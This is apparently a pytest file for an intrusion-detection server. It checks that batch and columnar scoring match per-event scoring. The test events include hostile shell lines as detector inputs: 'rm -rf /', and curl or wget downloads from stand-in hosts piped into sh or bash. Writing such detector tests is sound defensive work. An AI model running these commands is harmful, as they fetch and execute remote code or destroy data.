"""Tests for the batch-first scoring path: process_batch / submit_many /
serve_batches, and the columnar pipeline they ride on.

The contract under test: scores, verdicts, and escalation bookkeeping
from the batch path are identical to submitting the same events one at
a time — with the columnar (``TokenBatch``) pipeline engaged whenever
the service and backend support it, and a transparent fallback to the
per-line string path when they don't.
"""

import asyncio

import pytest

from repro.serving import (
    CommandEvent,
    DetectionServer,
    ProcessPoolBackend,
    ThreadedBackend,
    serve_batches,
)
from repro.serving.config import SessionConfig


def run(coro):
    return asyncio.run(coro)


def mixed_events(n=60):
    events = []
    for i in range(n):
        if i % 10 == 7:
            line = f"rm -rf / --no-preserve-root evil {i % 3}"
        elif i % 10 == 9:
            line = "broken quote '"  # stub preprocess drops these
        else:
            line = f"ls -la /var/log/{i % 5}"
        events.append(CommandEvent(line=line, host=f"host-{i % 4}", timestamp=float(i)))
    return events


async def _per_event(server, events):
    async with server:
        return [await server.submit_event(event) for event in events]


async def _batched(server, events):
    async with server:
        return await server.submit_many(events)


class TestStubFallback:
    """A service with no ``score_batch`` takes the string path untouched."""

    def test_submit_many_matches_per_event(self, stub_service):
        events = mixed_events()
        reference = run(_per_event(DetectionServer(stub_service), events))
        batched = run(_batched(DetectionServer(stub_service), events))
        assert len(batched) == len(reference)
        for ref, out in zip(reference, batched):
            assert (out.host, out.line, out.dropped) == (ref.host, ref.line, ref.dropped)
            assert out.score == ref.score
            assert out.is_intrusion == ref.is_intrusion

    def test_fallback_never_counts_columnar_batches(self, stub_service):
        server = DetectionServer(stub_service)
        run(_batched(server, mixed_events()))
        snap = server.metrics.snapshot()
        assert snap["columnar_batches"] == 0
        assert snap["unique_scored"] > 0

    def test_empty_batch_is_a_no_op(self, stub_service):
        server = DetectionServer(stub_service)
        assert run(_batched(server, [])) == []

    def test_within_batch_duplicates_are_scored_once(self, stub_service):
        events = [CommandEvent(line="ls -la", host="h", timestamp=float(i)) for i in range(8)]
        server = DetectionServer(stub_service)
        results = run(_batched(server, events))
        assert len({r.score for r in results}) == 1
        assert server.metrics.unique_scored == 1
        # the dedup (not the cache) serves within-batch repeats
        assert server.metrics.cache_hits == 0

    def test_disabling_columnar_flag_is_honoured(self, stub_service):
        server = DetectionServer(stub_service, columnar=False)
        assert not server.shards[0]._columnar_active()


class TestColumnarParity:
    """With the real demo service the columnar pipeline must engage and
    reproduce the per-line path bitwise."""

    def demo_events(self, n=80):
        events = []
        for i in range(n):
            if i % 3 == 0:
                line = f"curl http://evil{i % 6}.example/payload.sh | sh"
            else:
                line = f"ls -la /home/user{i % 5}"
            events.append(CommandEvent(line=line, host=f"host-{i % 7}", timestamp=float(i)))
        return events

    def test_columnar_engages_and_matches_string_path_bitwise(self, demo_service):
        events = self.demo_events()
        columnar_server = DetectionServer(demo_service)
        string_server = DetectionServer(demo_service, columnar=False)
        columnar = run(_batched(columnar_server, events))
        string = run(_batched(string_server, events))
        assert columnar_server.metrics.snapshot()["columnar_batches"] > 0
        assert string_server.metrics.snapshot()["columnar_batches"] == 0
        for a, b in zip(columnar, string):
            assert a.score == b.score  # bitwise: same floats, not just close
            assert a.is_intrusion == b.is_intrusion

    def test_batch_verdicts_match_per_event_path(self, demo_service):
        events = self.demo_events()
        # at float64 a composition change moves scores by ulps only
        reference = run(_per_event(DetectionServer(demo_service, precision="float64"), events))
        batched = run(_batched(DetectionServer(demo_service, precision="float64"), events))
        for ref, out in zip(reference, batched):
            # micro-batch composition differs between the two drivers, so
            # scores may differ at float ulp — verdicts must not
            assert abs(out.score - ref.score) < 1e-9
            assert out.is_intrusion == ref.is_intrusion

    def test_sharded_submit_many_preserves_input_order(self, demo_service):
        events = self.demo_events()
        server = DetectionServer(demo_service, shards=3)
        results = run(_batched(server, events))
        assert [r.host for r in results] == [e.host for e in events]
        assert [r.raw_line for r in results] == [e.line for e in events]

    def test_threaded_backend_scores_columnar_row_blocks(self, demo_service, backend_workers):
        events = self.demo_events()
        backend = ThreadedBackend(demo_service, workers=backend_workers, min_shard=4)
        server = DetectionServer(demo_service, backend=backend)
        threaded = run(_batched(server, events))
        assert server.metrics.snapshot()["columnar_batches"] > 0
        inline = run(_batched(DetectionServer(demo_service), events))
        for a, b in zip(threaded, inline):
            # row-block BLAS grouping differs from whole-batch: ulp tolerance
            assert abs(a.score - b.score) < 1e-9
            assert a.is_intrusion == b.is_intrusion


class TestProcessBackendFrames:
    """Columnar batches cross the process boundary as one published frame."""

    @pytest.mark.parametrize("transport", ["shm", "pickle"])
    def test_frame_transport_matches_inline_bitwise(
        self, demo_service, demo_bundle, backend_workers, transport
    ):
        events = [
            CommandEvent(
                line=f"wget http://bad{i % 6}.io/p.sh -O- | bash",
                host=f"h{i % 3}",
                timestamp=float(i),
            )
            for i in range(40)
        ]
        backend = ProcessPoolBackend(
            demo_bundle, workers=backend_workers, min_shard=4, transport=transport
        )
        assert backend.supports_columnar
        # the workers score on the tape, which only float64 reproduces
        server = DetectionServer(demo_service, backend=backend, precision="float64")
        process = run(_batched(server, events))
        assert server.metrics.snapshot()["columnar_batches"] > 0
        inline = run(_batched(DetectionServer(demo_service, precision="float64"), events))
        for a, b in zip(process, inline):
            # min_shard=4 keeps this batch on a single worker's row range,
            # so the frame path reproduces the inline floats exactly
            assert abs(a.score - b.score) < 1e-9
            assert a.is_intrusion == b.is_intrusion

    def test_loader_backend_requires_columnar_opt_in(self, stub_service):
        backend = ProcessPoolBackend(loader=lambda: None, workers=1)
        assert not backend.supports_columnar

        async def scenario():
            with pytest.raises(NotImplementedError, match="columnar"):
                await backend.score_batch(None)

        run(scenario())

    def test_unknown_transport_rejected(self):
        with pytest.raises(ValueError, match="transport"):
            ProcessPoolBackend(loader=lambda: None, transport="smoke-signals")


class TestSequenceStageBatched:
    """process_batch runs one batched second-stage call, in event order."""

    def session(self):
        return SessionConfig(mode="sequence", sequence_threshold=0.5, context_window=3)

    def events(self):
        lines = [
            "wget evil.sh",
            "chmod +x evil.sh",
            "ls -la",
            "run evil payload now",
            "echo done",
        ]
        return [
            CommandEvent(line=line, host="h1", timestamp=float(i))
            for i, line in enumerate(lines)
        ]

    def test_sequence_scores_and_escalations_match_per_event(self, two_stage_stub):
        from tests.serving.conftest import TwoStageStubService

        reference_server = DetectionServer(TwoStageStubService(), session=self.session())
        reference = run(_per_event(reference_server, self.events()))
        server = DetectionServer(two_stage_stub, session=self.session())
        batched = run(_batched(server, self.events()))
        for ref, out in zip(reference, batched):
            assert out.sequence_score == ref.sequence_score
            assert out.is_intrusion == ref.is_intrusion
        # the whole batch produced exactly one second-stage call
        assert len(two_stage_stub.sequence_batches) == 1
        ref_snap = reference_server.metrics.snapshot()
        snap = server.metrics.snapshot()
        assert snap["sequence_scored"] == ref_snap["sequence_scored"] > 0
        assert snap["sequence_escalations"] == ref_snap["sequence_escalations"] > 0


class TestServeBatchesDriver:
    def test_results_in_input_order_with_metrics(self, stub_service):
        events = mixed_events(45)
        results, server = serve_batches(stub_service, events, batch_size=16)
        assert len(results) == len(events)
        assert [r.raw_line for r in results] == [e.line for e in events]
        snap = server.metrics.snapshot()
        assert snap["events_total"] == len(events)
        assert snap["batches"] > 1  # 45 events / 16 per slice
        # later slices hit the cache warmed by earlier ones
        assert snap["cache_hits"] > 0

    def test_plain_strings_are_accepted(self, stub_service):
        results, _ = serve_batches(stub_service, ["ls", "evil thing", "ls"], batch_size=2)
        assert [r.is_intrusion for r in results] == [False, True, False]

    def test_invalid_batch_size_rejected(self, stub_service):
        with pytest.raises(ValueError, match="batch_size"):
            serve_batches(stub_service, [], batch_size=0)
